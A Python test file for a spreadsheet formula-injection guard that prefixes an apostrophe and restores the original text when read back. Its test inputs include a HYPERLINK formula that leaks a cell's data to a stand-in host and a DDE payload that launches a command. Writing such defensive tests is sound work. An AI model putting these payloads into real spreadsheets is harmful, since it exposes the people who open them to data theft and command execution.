"""Formula-looking text is neutralised for spreadsheets and restored exactly when read back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coordpanel.core.formulas import neutralise, restore

ATTACKS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "=cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_looking_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", ["张伟", "北门", "", "13800000000", "a=b", 42, -2, None, 1.5])
def test_other_values_pass_unchanged(value):
    assert neutralise(value) == value
    assert restore(value) == value


def test_text_that_already_starts_with_an_apostrophe_round_trips():
    assert neutralise("'=x") == "''=x"
    assert restore("''=x") == "'=x"
    assert neutralise("'abc") == "'abc"  # harmless: no trigger after the apostrophe


@given(st.text(max_size=12))
def test_restore_undoes_neutralise_for_every_text(text):
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
